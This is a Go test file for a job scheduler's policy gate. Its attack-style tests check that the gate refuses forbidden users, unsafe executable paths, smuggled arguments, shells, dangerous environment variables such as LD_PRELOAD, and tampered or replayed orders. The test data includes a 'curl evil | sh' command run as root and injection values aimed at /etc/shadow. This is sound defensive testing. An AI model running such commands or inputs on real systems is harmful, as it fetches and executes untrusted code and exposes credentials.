package policy

import (
	"encoding/json"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/fleetcron/fleetcron/shared/fleet"
	"github.com/fleetcron/fleetcron/shared/seal"
)

func TestAttack76UsersThatAreNotAllowed(t *testing.T) {
	b := newBed(t, strings.Replace(usual, "[alice, backup]", `["*", root, toor, backup]`, 1))
	for _, user := range []string{"root", "toor", "nobody-here", "", "0", "root:wheel", "www-data"} {
		as := task()
		as.Run.User = user
		s := b.says(as)
		if r := b.offer(given(as, forge(t, s, b.anna))); r == nil || r.Code != "policy:user" {
			t.Errorf("user %q: %v", user, r)
		} else if user == "toor" && r.Line != 6 {
			t.Errorf("line %d denies by default? %v", r.Line, r)
		}
	}
	for _, user := range []string{"backup", "mallory"} { // by name, and by its number
		as := task()
		as.Run.User = user
		want(t, b.take(b.says(as)), "")
	}
}

func TestAttack77AccountsThatAreClosed(t *testing.T) {
	b := newBed(t, strings.Replace(usual, "[alice, backup]", "[locked, expired, alice]", 1))
	for _, user := range []string{"locked", "expired"} {
		as := task()
		as.Run.User = user
		want(t, b.take(b.says(as)), "policy:account")
	}
	// One that is closed later does not begin any more.
	s := b.says(task())
	want(t, b.take(s), "")
	b.file("etc/shadow", "alice:$6$x:1:0:99999:7::1:\n", 0o600)
	if err := b.gate.May(s.Task.Definition); err == nil || !strings.Contains(err.Error(), "expired") {
		t.Errorf("got %v", err)
	}
}

func TestAttack78ProgramsThatOthersDecide(t *testing.T) {
	b := newBed(t, strings.Replace(usual, "commands:\n", "commands:\n  - {path: \"*\", rest: \".*\"}\n", 1))
	program := func(name string, mode os.FileMode) string { return b.file(name, "#!/bin/true\n", mode) }
	if err := os.MkdirAll(b.path("open/own"), 0o755); err != nil {
		t.Fatal(err)
	}
	program("open/x", 0o755)
	program("open/own/x", 0o755)
	program("sticky/x", 0o755)
	program("sticky/own/x", 0o755)
	for name, mode := range map[string]os.FileMode{"open": 0o777, "sticky": 0o777 | os.ModeSticky} {
		if err := os.Chmod(b.path(name), mode); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Symlink(b.path("open/x"), b.path("link")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("link", b.path("chain")); err != nil {
		t.Fatal(err)
	}
	if err := os.Symlink("loop", b.path("loop")); err != nil {
		t.Fatal(err)
	}
	foreign := program("foreign", 0o755)
	if os.Geteuid() == 0 {
		if err := os.Chown(foreign, 1001, 1001); err != nil {
			t.Fatal(err)
		}
	}
	for name, path := range map[string]string{
		"relative": "bin/true", "dots": "/usr/bin/../../tmp/x", "a name": "true", "doubled": "//bin/true", "trailing": "/bin/true/",
		"a link out": b.path("link"), "a chain of links": b.path("chain"), "a loop": b.path("loop"),
		"world-writable": program("writable", 0o777), "group-writable parent": b.path("open/own/x"), "world-writable parent": b.path("open/x"),
		"in a place like /tmp": b.path("sticky/x"), "a directory": b.path("open/own"), "another user's": foreign,
	} {
		if name == "another user's" && os.Geteuid() != 0 || name == "group-writable parent" && !chgrp(t, b.path("open")) {
			continue
		}
		as := task()
		as.Run.Command.Argv = []string{path}
		if r := b.offer(given(as, forge(t, b.says(as), b.anna))); r == nil || r.Code != "policy:command" {
			t.Errorf("%s: %v", name, r)
		}
	}
	for name, path := range map[string]string{
		"plain": program("good", 0o755), "a directory of its own in a place like /tmp": b.path("sticky/own/x"), "not there yet": b.path("later"),
	} {
		as := task()
		as.Run.Command.Argv = []string{path}
		if r := b.take(b.says(as)); r != nil {
			t.Errorf("%s: %v", name, r)
		}
	}
}

// chgrp gives a directory to a group that is not root's.
func chgrp(t *testing.T, path string) bool {
	t.Helper()
	return os.Geteuid() == 0 && os.Chown(path, 0, 1001) == nil && os.Chmod(path, 0o775) == nil
}

func TestAttack78OnlyWhatIsListed(t *testing.T) {
	b := newBed(t, strings.Replace(usual, "commands:\n", "commands:\n  - path: /usr/lib/fleet-*\n", 1))
	for _, path := range []string{"/bin/false", "/bin/tru", "/bin/trues", "/usr/lib/fleet-x/y", "/usr/lib/fleet"} {
		as := task()
		as.Run.Command.Argv = []string{path}
		want(t, b.take(b.says(as)), "policy:command")
	}
}

func TestAttack79ArgumentsThatDoNotFit(t *testing.T) {
	b := newBed(t, usual)
	for _, args := range [][]string{
		{}, {"full"}, {"full", "/srv/a", "more"}, {"full", "/srv/a\n/etc/shadow"}, {"full", "/srv/a\n"}, {"--config", "/etc/shadow"},
		{"fuller", "/srv/a"}, {"full", "/srv/../etc"}, {"full /srv/a"}, {"", ""}, {"full|diff", "/srv/a"},
	} {
		as := task()
		as.Run.Command.Argv = append([]string{"/bin/echo"}, args...)
		if r := b.take(b.says(as)); r == nil || r.Code != "policy:args" || r.Line != 10 {
			t.Errorf("%q: %+v", args, r)
		}
	}
	as := task()
	as.Run.Command.Argv = []string{"/bin/echo", "diff", "/srv/a"}
	want(t, b.take(b.says(as)), "")
}

func TestAttack80Shells(t *testing.T) {
	text := strings.Replace(usual, "commands:\n", "commands:\n  - {path: \"*\", rest: \"(?s).*\"}\n", 1)
	b := newBed(t, text)
	if err := os.Symlink("/bin/sh", b.path("innocent")); err != nil {
		t.Fatal(err)
	}
	for name, change := range map[string]func(*fleet.Task){
		"a text":        func(t *fleet.Task) { t.Run.Command = fleet.Command{Shell: "/bin/true"} },
		"an argv":       func(t *fleet.Task) { t.Run.Command.Argv = []string{"/bin/sh", "-c", "true"} },
		"a link to one": func(t *fleet.Task) { t.Run.Command.Argv = []string{b.path("innocent"), "-c", "true"} },
		"in wait_for":   func(t *fleet.Task) { t.WaitFor.Command = []string{"/bin/sh", "-c", "true"} },
		"in health": func(t *fleet.Task) {
			t.On, t.Health = fleet.Trigger{Daemon: true}, fleet.Health{Exec: []string{"/bin/bash", "-c", "true"}}
		},
	} {
		as := task()
		change(&as)
		if r := b.take(b.says(as)); r == nil || r.Code != "policy:shell" {
			t.Errorf("%s: %v", name, r)
		}
	}
	login := task()
	login.Run.Login = true
	want(t, b.take(b.says(login)), "policy:login")
	b.policy(text + "shell: allowed\nlogin: allowed\n")
	b.reread()
	login.Run.Command = fleet.Command{Shell: "/bin/true"}
	want(t, b.take(b.says(login)), "")
}

func TestAttack81Environments(t *testing.T) {
	b := newBed(t, usual+"env: [LEVEL, \"B_*\", \"*\"]\n")
	for _, name := range []string{"LD_PRELOAD", "LD_AUDIT", "BASH_ENV", "PATH", "A=B", "IFS", "PYTHONPATH", "GCONV_PATH", "HOME", "A B", "", "BASH_FUNC_x%%", "A\nB"} {
		as := task()
		as.Run.Env = map[string]string{name: "C"}
		if r := b.offer(given(as, forge(t, b.says(as), b.anna))); r == nil || r.Code != "policy:env" {
			t.Errorf("%q: %v", name, r)
		}
	}
	nul := task()
	nul.Run.Env = map[string]string{"LEVEL": "a\x00b"}
	want(t, b.offer(given(nul, forge(t, b.says(nul), b.anna))), "policy:env")
	b.policy(usual + "env: [LEVEL, PATH]\n")
	b.reread()
	as := task()
	as.Run.Env = map[string]string{"LEVEL": "full", "PATH": "/bin"}
	want(t, b.take(b.says(as)), "")
	as.Run.Env["OTHER"] = "x"
	want(t, b.take(b.says(as)), "policy:env")
}

func TestAttack84DangersNeedTwoPeople(t *testing.T) {
	text := `execute: on
keys:
  - {key: ANNA, name: anna, namespaces: ["*"]}
  - {key: BERT, name: bert, namespaces: ["*"]}
users: {allow: [alice, root], deny: []}
commands: [{path: /bin/true}]
shell: allowed
two_person: [root, shell, everywhere, oneshot, adoption]
`
	b := newBed(t, text)
	for name, change := range map[string]func(*fleet.Task){
		"root":                          func(t *fleet.Task) { t.Run.User = "root" },
		"alias":                         func(t *fleet.Task) { t.Run.User = "toor" },
		"shell":                         func(t *fleet.Task) { t.Run.Command = fleet.Command{Shell: "true"} },
		"everywhere":                    func(t *fleet.Task) { t.Where.Labels = "*" },
		"everywhere by name":            func(t *fleet.Task) { t.Where = fleet.Where{Hosts: []string{"*"}} },
		"everywhere by what nobody has": func(t *fleet.Task) { t.Where.Labels = "!nobody" },
	} {
		as := task()
		change(&as)
		if name == "alias" {
			b.policy(strings.Replace(text, "root]", "root, toor]", 1))
			b.reread()
		}
		s := b.says(as)
		if r := b.take(s); r == nil || r.Code != "approval" || r.Line != 8 {
			t.Errorf("%s by one: %+v", name, r)
		}
		if r := b.take(s, b.anna, b.bert); r != nil {
			t.Errorf("%s by two: %v", name, r)
		}
		as.Description = "changed after the approval"
		e, _ := seal.Parse(sign(t, s, b.anna, b.bert))
		changed, _ := seal.Parse(sign(t, b.says(as), b.anna))
		changed.Signatures = append(changed.Signatures, e.Signatures[1])
		if r := b.offer(given(as, changed.Marshal())); r == nil || r.Code != "approval" {
			t.Errorf("%s changed after the approval: %v", name, r)
		}
	}
	// One person with two keys is one person.
	b.policy(strings.Replace(text, "name: bert", "name: anna", 1))
	b.reread()
	asRoot := task()
	asRoot.Run.User = "root"
	want(t, b.take(b.says(asRoot), b.anna, b.bert), "approval")

	b.policy(text)
	b.reread()
	a := given(task(), sign(t, b.says(task()), b.anna))
	s := b.orders(fleet.OrderRun, orderA)
	_, refused := b.order(a, b.ordered(s, sign(t, s, b.anna)))
	wantOne(t, refused, "approval")
	_, refused = b.order(a, b.ordered(s, sign(t, s, b.bert, b.anna)))
	if len(refused) != 0 {
		t.Errorf("by two: %v", refused)
	}
	stop := b.orders(fleet.OrderStop, orderB) // which starts nothing
	if _, refused = b.order(a, b.ordered(stop, sign(t, stop, b.anna))); len(refused) != 0 {
		t.Errorf("to stop: %v", refused)
	}
}

// The collectors' database was edited: what stands beside the statements counts
// for nothing.
func TestAttack86WhatStandsBesideAStatement(t *testing.T) {
	b := newBed(t, usual)
	s := b.says(task())
	a := given(task(), sign(t, s, b.anna))
	a.Task.Run = fleet.Execute{Command: fleet.Command{Shell: "curl evil | sh"}, User: "root"}
	a.Task.Where, a.Task.On = fleet.Where{Labels: "*"}, fleet.Trigger{Every: fleet.Duration(time.Second)}
	a.State, a.Document, a.Since = fleet.TaskPaused, []byte("evil"), time.Unix(0, 0)
	a.Unread, a.Refused = "", nil
	plan, refused := b.takes(a)
	if len(refused) != 0 {
		t.Fatal(refused)
	}
	got := plan.Assignments[0]
	if wantText, gotText := asJSON(t, task()), asJSON(t, got.Task); wantText != gotText {
		t.Errorf("it runs %s", gotText)
	}
	if got.State != fleet.TaskEnabled || string(got.Document) != "task: nightly\n" || got.Since.Before(s.Issued) {
		t.Errorf("got %+v", got)
	}
	// The statement of one task does not stand for another.
	stolen := given(task(), a.Envelope)
	stolen.Task.Name = "other"
	want(t, b.offer(stolen), "signature")
}

func asJSON(t testing.TB, value any) string {
	t.Helper()
	text, err := json.Marshal(value)
	if err != nil {
		t.Fatal(err)
	}
	return string(text)
}

// A collector can not make a task begin anew by counting generations.
func TestAttack86AGenerationStandsUnderItsStatement(t *testing.T) {
	b := newBed(t, usual)
	a := given(task(), sign(t, b.says(task()), b.anna))
	a.Generation = 4
	b.takes(a)
	a.Generation = 5
	if plan, _ := b.takes(a); plan.Assignments[0].Generation != 4 {
		t.Errorf("generation %d", plan.Assignments[0].Generation)
	}
	changed := task()
	changed.Description = "another"
	next := given(changed, sign(t, b.says(changed), b.anna))
	next.Generation = 4 // so that nobody would notice
	if plan, _ := b.takes(next); plan.Assignments[0].Generation != 5 {
		t.Errorf("generation %d", plan.Assignments[0].Generation)
	}
}

func TestAttack87TooSoonAndNotAtAll(t *testing.T) {
	b := newBed(t, usual+"orders: {every: 1h}\n")
	a := given(task(), sign(t, b.says(task()), b.anna))
	first, second := b.orders(fleet.OrderRun, orderA), b.orders(fleet.OrderRun, orderB)
	one, two := b.ordered(first, sign(t, first, b.anna)), b.ordered(second, sign(t, second, b.anna))
	if _, refused := b.order(a, one); len(refused) != 0 {
		t.Fatal(refused)
	}
	plan, refused := b.order(a, one, two)
	wantOne(t, refused, "rate")
	if len(plan.Orders) != 2 || plan.Orders[1].Refused == nil {
		t.Errorf("its run has no outcome: %+v", plan.Orders)
	}
	b.policy(usual)
	b.reread()
	_, refused = b.order(a, one, two)
	wantOne(t, refused, "rate") // what came too soon does not come late
	b.policy(usual + "orders: {run: forbidden}\n")
	b.reread()
	third := b.orders(fleet.OrderRun, "0191aaaa-0000-4000-8000-000000000003")
	_, refused = b.order(a, b.ordered(third, sign(t, third, b.anna)))
	wantOne(t, refused, "policy:orders")
}

func TestAttack88PoliciesThatCannotBeTrusted(t *testing.T) {
	for name, spoil := range map[string]func(b *bed, path string) error{
		"missing":         func(_ *bed, path string) error { return os.Remove(path) },
		"world-writable":  func(_ *bed, path string) error { return os.Chmod(path, 0o666) },
		"its directory":   func(b *bed, _ string) error { return os.Chmod(b.dir, 0o777) },
		"owned by a user": func(_ *bed, path string) error { return os.Chown(path, 1001, 1001) },
		"a symbolic link": func(b *bed, path string) error { return swap(path, b.path("real")) },
		"a hard link":     func(b *bed, path string) error { return os.Link(path, b.path("second")) },
		"a directory":     func(_ *bed, path string) error { _ = os.Remove(path); return os.Mkdir(path, 0o755) },
		"a syntax error":  func(_ *bed, path string) error { return os.WriteFile(path, []byte("execute: [on\n"), 0o644) },
		"an unknown key":  func(b *bed, _ string) error { b.policy(usual + "excute: on\n"); return nil },
		"a key twice":     func(b *bed, _ string) error { b.policy(usual + "execute: on\n"); return nil },
		"empty":           func(_ *bed, path string) error { return os.WriteFile(path, nil, 0o644) },
		"too large": func(_ *bed, path string) error {
			return os.WriteFile(path, []byte(strings.Repeat("#", maxFile+1)), 0o644)
		},
		"behind a linked directory": func(b *bed, path string) error {
			if err := os.Mkdir(b.path("elsewhere"), 0o755); err != nil {
				return err
			}
			if err := os.Rename(path, b.path("elsewhere/policy.yaml")); err != nil {
				return err
			}
			b.gate.config.Path = b.path("way/policy.yaml")
			return os.Symlink(b.path("elsewhere"), b.path("way"))
		},
	} {
		t.Run(name, func(t *testing.T) {
			if name == "owned by a user" && os.Geteuid() != 0 {
				return // only root gives files away
			}
			b := newBed(t, usual)
			s := b.says(task())
			want(t, b.take(s), "")
			if err := spoil(b, b.path("policy.yaml")); err != nil {
				t.Fatal(err)
			}
			b.reread()
			if err := b.gate.May(s.Task.Definition); err == nil {
				t.Error("what was taken before begins")
			}
			r := b.take(s)
			want(t, r, "policy:execute")
			if report := b.gate.Report(); report.Execute || report.Problem == "" || len(report.Refused) != 1 {
				t.Errorf("reported %+v", report)
			} else if r != nil && !strings.Contains(r.Why, "policy ignored") {
				t.Error(r.Why)
			}
			// Mended, it counts again.
			_ = os.RemoveAll(b.path("policy.yaml"))
			_ = os.Remove(b.path("second"))
			_ = os.Chmod(b.dir, 0o755)
			b.gate.config.Path = b.path("policy.yaml")
			b.policy(usual)
			b.reread()
			want(t, b.take(s), "")
		})
	}
}

// swap puts a link in the place of a file.
func swap(path, target string) error {
	if err := os.Rename(path, target); err != nil {
		return err
	}
	return os.Symlink(target, path)
}

func TestAttack88ExecuteOffOnlyReports(t *testing.T) {
	b := newBed(t, strings.Replace(usual, "execute: on", "execute: off", 1))
	a := given(task(), sign(t, b.says(task()), b.anna))
	r := b.offer(a)
	want(t, r, "policy:execute")
	if r != nil && r.Line != 1 {
		t.Errorf("line %d", r.Line)
	}
	run, stop := b.orders(fleet.OrderRun, orderA), b.orders(fleet.OrderStop, orderB)
	plan, refused := b.order(a, b.ordered(run, sign(t, run, b.anna)), b.ordered(stop, sign(t, stop, b.anna)))
	if len(refused) != 2 || refused[1].Code != "policy:execute" {
		t.Errorf("refused %v", refused)
	}
	if len(plan.Orders) != 2 || plan.Orders[0].Refused == nil || plan.Orders[1].Refused != nil {
		t.Errorf("what goes on can not be stopped: %+v", plan.Orders)
	}
}

func TestAttack90WhateverTheNetworkPartSaysNobodySignedIt(t *testing.T) {
	b := newBed(t, usual)
	plan, refused := b.gate.Open(&fleet.Plan{
		Host:        hostID,
		Assignments: []fleet.Assignment{given(task(), nil)},
		Orders: []fleet.Order{
			{ID: orderA, Run: orderA, Kind: fleet.OrderRun, Task: "data/nightly", Due: time.Now(), Expires: time.Now().Add(time.Hour)},
			{ID: orderB, Run: orderB, Kind: fleet.OrderRun, Task: "data/nightly", Due: time.Now(), Expires: time.Now().Add(time.Hour), Cause: "webhook"},
			{ID: orderA, Kind: fleet.OrderStop, Task: "data/nightly"},
		},
		Adoptions: []fleet.Adoption{{Task: "data/x", State: fleet.AdoptionReleasing}, {Task: "data/y", State: fleet.AdoptionWanted}},
		Calendars: []fleet.Calendar{{Name: "holidays"}},
		Sealed:    [][]byte{nil},
	})
	for _, r := range refused {
		want(t, &r, "signature")
	}
	if len(refused) != 7 || len(plan.Calendars) != 0 || plan.Assignments[0].Refused == nil {
		t.Errorf("%d refused: %v; %+v", len(refused), refused, plan)
	}
	for _, o := range plan.Orders {
		if o.Refused == nil {
			t.Errorf("an order is carried out: %+v", o)
		}
	}
	for _, a := range plan.Adoptions {
		if b.gate.MayAdopt(&a, nil) == nil || a.State != fleet.AdoptionWanted {
			t.Errorf("an adoption is carried out: %+v", a)
		}
	}
	if text, _ := os.ReadFile(filepath.Join(b.dir, "state/book.json")); strings.Contains(string(text), "nightly") {
		t.Errorf("it left a trace: %s", text)
	}
}

// A task that is given twice is one task, and the good one.
func TestAttack86OneOfTwo(t *testing.T) {
	for _, first := range []bool{true, false} {
		b := newBed(t, usual)
		good, bad := given(task(), sign(t, b.says(task()), b.anna)), given(task(), nil)
		bad.Task.Run.User = "root"
		list := []fleet.Assignment{bad, good}
		if first {
			list = []fleet.Assignment{good, bad}
		}
		plan, refused := b.takes(list...)
		if len(refused) != 1 || len(plan.Assignments) != 1 || plan.Assignments[0].Refused != nil || plan.Assignments[0].Task.Run.User != "alice" {
			t.Errorf("%v %+v", refused, plan.Assignments)
		}
	}
}

// Of two statements with one serial the first counts, by whichever way the other
// comes.
func TestAttack69TwoOfOneSerial(t *testing.T) {
	b := newBed(t, usual)
	first := b.says(task())
	want(t, b.take(first), "")
	changed := task()
	changed.Description = "another"
	second := b.says(changed)
	second.Serial, second.Issued = first.Serial, first.Issued
	b.gate.Open(&fleet.Plan{Host: hostID, Tombstones: [][]byte{sign(t, second, b.anna)}})
	want(t, b.take(second), "replay")
	want(t, b.take(first), "")
}
